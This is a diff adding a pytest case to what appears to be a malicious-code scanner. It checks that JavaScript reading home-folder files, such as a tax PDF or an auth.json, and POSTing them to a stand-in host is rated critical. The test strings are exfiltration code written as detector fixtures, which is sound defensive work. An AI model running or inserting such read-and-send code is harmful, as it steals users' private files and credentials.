@@ -1,7 +1,7 @@
 """What is fetched, started or fed over a connection weighs by who answers for it, and by when it happens."""
 
 import pytest
-from weighed import worst
+from weighed import worst, worst_script
 
 from ostiary.core.scale import Severity
 
@@ -220,3 +220,22 @@ def test_what_a_name_is_bound_to_is_known_of_functions_alone(start: str, found: 
     )
     text = called.format(start=start)
     assert (worst("unreadable", text, "sample/__init__.py") is not None) is found
+
+
+HOME_FILE = "const fs = require('fs'), os = require('os'), path = require('path');\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "severity"),
+    [
+        ("path.join(os.homedir(), 'Documents/taxes.pdf')", Severity.CRITICAL),
+        ("process.env.HOME + '/.config/other/auth.json'", Severity.CRITICAL),
+        ("path.join(os.homedir(), '.sample/settings.json')", None),
+        ("path.join(__dirname, 'notes.txt')", None),
+    ],
+)
+def test_a_file_of_the_home_folder_goes_along(path: str, severity: Severity | None) -> None:
+    body = f"fs.readFileSync({path})"
+    sent = f"fetch('https://c.example.invalid/x', {{method: 'POST', body: {body}}})"
+    assert worst_script("uncalled-chain", HOME_FILE + sent) is severity
+    assert worst_script("uncalled-chain", f"{HOME_FILE}exports.go = () => {sent}") is None
